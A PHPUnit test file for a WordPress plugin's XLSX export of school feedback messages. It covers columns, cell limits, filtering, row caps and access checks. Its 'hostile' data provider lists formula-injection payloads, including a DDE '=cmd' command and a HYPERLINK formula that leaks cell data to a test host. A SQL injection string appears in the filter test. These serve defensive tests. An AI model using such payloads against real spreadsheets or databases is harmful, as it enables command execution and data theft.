<?php
/**
 * The exported file: what stands in it, what it can do to whoever opens it, what it needs to be made.
 *
 * @package CongTruong
 */

declare( strict_types=1 );

namespace CongTruong\Tests\Feedback;

use CongTruong\Feedback\Events;
use CongTruong\Feedback\Export;
use CongTruong\Feedback\Tables;

require_once __DIR__ . '/QuestionTestCase.php';

final class ExportTest extends QuestionTestCase {

	private const COLUMNS = array(
		'A' => 'Code',
		'B' => 'Kind',
		'C' => 'State',
		'D' => 'Topic',
		'E' => 'Sender',
		'F' => 'Received',
		'G' => 'Answer due',
		'H' => 'Assigned to',
		'I' => 'Message',
		'J' => 'Name',
		'K' => 'Contact',
		'L' => 'Further fields',
		'M' => 'Answers',
		'N' => 'Files',
	);

	/**
	 * Parts of a file.
	 *
	 * @param string $bytes Excel file.
	 * @return array<string, string>
	 */
	private static function unzip( string $bytes ): array {
		require_once ABSPATH . 'wp-admin/includes/class-pclzip.php';
		$path = wp_tempnam( 'xlsx' );
		file_put_contents( $path, $bytes );
		$files = ( new \PclZip( $path ) )->extract( PCLZIP_OPT_EXTRACT_AS_STRING );
		unlink( $path );
		self::assertIsArray( $files );

		return array_column( $files, 'content', 'filename' );
	}

	/**
	 * The sheet of a query, cell by cell.
	 *
	 * @param array<string, mixed> $query Query.
	 * @return array<string, \SimpleXMLElement>
	 */
	private static function cells( array $query ): array {
		$sheet = self::unzip( Export::xlsx( $query ) )['xl/worksheets/sheet1.xml'];
		self::assertStringNotContainsString( '<f>', $sheet );
		$xml = simplexml_load_string( $sheet );
		self::assertInstanceOf( \SimpleXMLElement::class, $xml );
		$cells = array();
		foreach ( $xml->{'sheetData'}->row as $row ) {
			foreach ( $row->c as $cell ) {
				$cells[ (string) $cell['r'] ] = $cell;
			}
		}

		return $cells;
	}

	/**
	 * Text of a cell.
	 *
	 * @param \SimpleXMLElement $cell Cell.
	 */
	private static function text( \SimpleXMLElement $cell ): string {
		return (string) ( 'inlineStr' === (string) $cell['t'] ? $cell->is->t : $cell->v );
	}

	public function test_every_column_says_what_it_is_of(): void {
		$user    = $this->create_user( 'author', array( 'display_name' => 'Cô Hoa' ) );
		$created = ( new \DateTimeImmutable( '2026-11-25 07:30:59', wp_timezone() ) )->getTimestamp();
		$message = $this->message(
			array(
				'kind' => 'question',
				'state' => 'progress',
				'topic' => 'thu-chi',
				'role' => 'parent',
				'created' => $created,
				'due' => $created + DAY_IN_SECONDS,
				'assignee' => $user,
				'files' => 2,
			),
			array(
				'message' => "Dòng một\nDòng hai 😀",
				'name'    => 'Lan & <b>Anh</b>',
				'contact' => '0903123456',
				'fields'  => array(
					array(
						'id' => 'lop',
						'label' => 'Lớp',
						'value' => '7A',
					),
					array(
						'id' => 'gio',
						'label' => 'Giờ',
						'value' => 'sáng',
					),
				),
			)
		);
		Events::add( $message['id'], 'answer', array( 'text' => 'Trả lời "một"' ), $user );
		Events::add( $message['id'], 'note', array( 'text' => 'Nội bộ' ), $user );
		Events::add( $message['id'], 'answer', array( 'text' => 'Trả lời hai' ), $user );

		$cells = self::cells( array() );
		foreach ( self::COLUMNS as $column => $name ) {
			self::assertSame( $name, self::text( $cells[ $column . '2' ] ) );
		}
		$row = array();
		foreach ( array_keys( self::COLUMNS ) as $column ) {
			$row[ $column ] = self::text( $cells[ $column . '3' ] );
		}
		self::assertSame( array( $message['code'], 'Question', 'In progress', 'Các khoản thu', 'Parent' ), array( $row['A'], $row['B'], $row['C'], $row['D'], $row['E'] ) );
		self::assertSame( array( 'Cô Hoa', "Dòng một\nDòng hai 😀", 'Lan & <b>Anh</b>', '0903123456', "Lớp: 7A\nGiờ: sáng", '2' ), array( $row['H'], $row['I'], $row['J'], $row['K'], $row['L'], $row['N'] ) );
		self::assertMatchesRegularExpression( '~^\d\d/\d\d/\d{4} \d\d:\d\d: Trả lời "một"\n\n\d\d/\d\d/\d{4} \d\d:\d\d: Trả lời hai$~u', $row['M'] );
		// Excel's days since 1900: 25/11/2026 07:30.
		self::assertEqualsWithDelta( 46351.3125, (float) $row['F'], 0.00001 );
		self::assertEqualsWithDelta( 46352.3125, (float) $row['G'], 0.00001 );
		self::assertStringContainsString( '1 message', self::text( $cells['A1'] ) );
		self::assertStringNotContainsString( 'NOT ALL', self::text( $cells['A1'] ) );
	}

	/**
	 * What programs of tables take for a formula, or choke on.
	 */
	public function hostile(): array {
		return array(
			array( '=cmd|\' /C calc\'!A0', null ),
			array( '+1+1', null ),
			array( '-1+1', null ),
			array( '@SUM(1)', null ),
			array( "\t=1+1", '=1+1' ),
			array( '=HYPERLINK("https://a.test/?"&A1,"x")', null ),
			array( '<script>x</script> ]]> &amp; &#61;1', null ),
			array( "a\x00b\x08c\x0Bd\x1Fe", 'a b c d e' ),
			array( "x\u{FFFE}y", 'x_xFFFE_y' ),
			array( '_x0041_', '_x005F_x0041_' ),
			array( "\u{202E}gpj.exe", null ),
		);
	}

	/**
	 * All of it is text in the file, in whichever column it came.
	 *
	 * @dataProvider hostile
	 * @param string      $text Text.
	 * @param string|null $read What stands in the file, if it is not the same.
	 */
	public function test_texts_are_texts( string $text, ?string $read ): void {
		$this->message(
			array(),
			array(
				'message' => $text,
				'name' => $text,
				'contact' => $text,
				'fields' => array(
					array(
						'id' => 'a',
						'label' => $text,
						'value' => $text,
					),
				),
			)
		);
		$cells = self::cells( array() );
		foreach ( array( 'I3', 'J3', 'K3', 'L3' ) as $name ) {
			self::assertSame( 'inlineStr', (string) $cells[ $name ]['t'] );
		}
		self::assertSame( $read ?? $text, ltrim( self::text( $cells['I3'] ), "\t" ) );
	}

	/**
	 * Long texts, and how many units of UTF-16 are left.
	 */
	public function long(): array {
		return array(
			array( str_repeat( 'a', 32767 ), 32767 ),
			array( str_repeat( 'a', 32768 ), 32767 ),
			array( str_repeat( 'ấ', 40000 ), 32767 ),
			array( str_repeat( '😀', 16383 ), 32766 ),
			array( str_repeat( '😀', 20000 ), 32767 ),
			array( str_repeat( 'ấ', 12000 ), 12000 ),
		);
	}

	/**
	 * Excel calls a file broken whose cell holds more than 32,767.
	 *
	 * @dataProvider long
	 * @param string $text  Text.
	 * @param int    $units Units of UTF-16.
	 */
	public function test_a_cell_holds_what_excel_takes( string $text, int $units ): void {
		$this->message( array(), array( 'message' => $text ) );
		$cell  = self::text( self::cells( array() )['I3'] );
		$found = mb_strlen( $cell ) + (int) preg_match_all( '/[\x{10000}-\x{10FFFF}]/u', $cell );
		self::assertLessThanOrEqual( $units, $found );
		self::assertGreaterThan( $units - 4, $found );
		self::assertSame( $cell === $text, '…' !== mb_substr( $cell, -1 ) );
	}

	public function test_the_query_of_the_list_filters_the_file(): void {
		$fee = $this->message( array( 'topic' => 'thu-chi' ), array( 'message' => 'Học phí' ) );
		$gap = $this->message( array( 'topic' => 'an-toan' ), array( 'message' => 'Cổng' ) );
		$bad = $this->message( array( 'state' => 'spam' ) );
		$of  = static function ( array $given ): array {
			$codes = array();
			foreach ( self::cells( Export::query( $given ) ) as $name => $cell ) {
				if ( 'A' === $name[0] && (int) substr( $name, 1 ) > 2 ) {
					$codes[] = self::text( $cell );
				}
			}
			return $codes;
		};
		self::assertSame( array( $gap['code'], $fee['code'] ), $of( array() ) );
		self::assertSame(
			array( $fee['code'] ),
			$of(
				array(
					'topic' => 'thu-chi',
					'page' => '7',
					'state' => '',
				)
			)
		);
		self::assertSame( array( $fee['code'] ), $of( array( 'search' => 'hoc phi' ) ) );
		self::assertSame( array( $bad['code'] ), $of( array( 'state' => 'spam' ) ) );
		self::assertSame( array(), $of( array( 'overdue' => 'true' ) ) );
		self::assertSame(
			array( $gap['code'], $fee['code'] ),
			$of(
				array(
					'overdue' => 'false',
					'kind' => array( 'x' ),
				)
			)
		);
		self::assertSame( array(), $of( array( 'topic' => "' OR 1=1 -- " ) ) );
	}

	public function test_an_empty_list_is_a_file_too(): void {
		$cells = self::cells( array( 'search' => 'khong co gi' ) );
		self::assertStringContainsString( '0 messages', self::text( $cells['A1'] ) );
		self::assertArrayNotHasKey( 'A3', $cells );
	}

	public function test_a_large_inbox_gives_a_file_that_says_what_is_missing(): void {
		global $wpdb;
		$table = Tables::name( 'messages' );
		$body  = (string) wp_json_encode(
			array(
				'message' => str_repeat( 'Kính gửi nhà trường, ', 20 ),
				'name' => 'Nguyễn Văn A',
			)
		);
		for ( $block = 0; $block < 53; $block++ ) {
			$rows = array();
			for ( $one = 0; $one < 100; $one++ ) {
				$number = $block * 100 + $one;
				$rows[] = $wpdb->prepare( "(%s, %s, 'new', 'feedback', %d, %s, '')", 'XX' . $number, 'load' . $number, 1760000000 + $number, $body );
			}
			$wpdb->query( "INSERT INTO `$table` (code, once, state, kind, created, body, folded) VALUES " . implode( ',', $rows ) );
		}
		if ( function_exists( 'memory_reset_peak_usage' ) ) {
			memory_reset_peak_usage();
		}
		$before = memory_get_usage();
		$start  = microtime( true );
		$bytes  = Export::xlsx( array() );
		$took   = microtime( true ) - $start;
		if ( function_exists( 'memory_reset_peak_usage' ) ) {
			self::assertLessThan( 80 * MB_IN_BYTES, memory_get_peak_usage() - $before );
		}
		self::assertLessThan( 25.0, $took );
		$sheet = self::unzip( $bytes )['xl/worksheets/sheet1.xml'];
		self::assertSame( Export::ROWS + 2, substr_count( $sheet, '<row ' ) );
		self::assertStringContainsString( 'NOT ALL: these are the newest 5,000 of 5,300.', $sheet );
		self::assertStringContainsString( '>XX5299<', $sheet );
		self::assertStringNotContainsString( '>XX299<', $sheet );
	}

	public function test_long_messages_end_the_file_sooner(): void {
		for ( $number = 0; $number < 60; $number++ ) {
			$message = $this->message( array(), array( 'message' => str_repeat( 'ấ', 10000 ) ) );
			for ( $answer = 0; $answer < 2; $answer++ ) {
				Events::add( $message['id'], 'answer', array( 'text' => str_repeat( 'ấ', 20000 ) ) );
			}
		}
		$cells = self::cells( array() );
		self::assertStringContainsString( 'NOT ALL: these are the newest 41 of 60.', self::text( $cells['A1'] ) );
		self::assertArrayHasKey( 'A43', $cells );
		self::assertArrayNotHasKey( 'A44', $cells );
	}

	/**
	 * Who may not have the file, with which nonce.
	 */
	public function strangers(): array {
		return array(
			array( '', true ),
			array( 'subscriber', true ),
			array( 'author', true ),
			array( 'editor', false ),
			array( 'administrator', false ),
		);
	}

	/**
	 * A link from elsewhere, or somebody else, gets nothing.
	 *
	 * @dataProvider strangers
	 * @param string $role      Role.
	 * @param bool   $has_nonce Whether the nonce is theirs.
	 */
	public function test_it_is_for_those_who_manage_and_mean_it( string $role, bool $has_nonce ): void {
		if ( '' !== $role ) {
			$this->act_as( $role );
		}
		$this->message( array(), array( 'message' => 'Bí mật' ) );
		$_GET     = $has_nonce ? array( '_wpnonce' => wp_create_nonce( Export::ACTION ) ) : array( '_wpnonce' => wp_create_nonce( 'other' ) );
		$_REQUEST = $_GET;
		add_filter(
			'wp_die_handler',
			static function (): callable {
				return static function ( $message ): void {
					throw new \RuntimeException( is_string( $message ) ? $message : 'died' );
				};
			}
		);
		$this->expectException( \RuntimeException::class );
		$this->expectOutputString( '' );
		Export::download();
	}
}
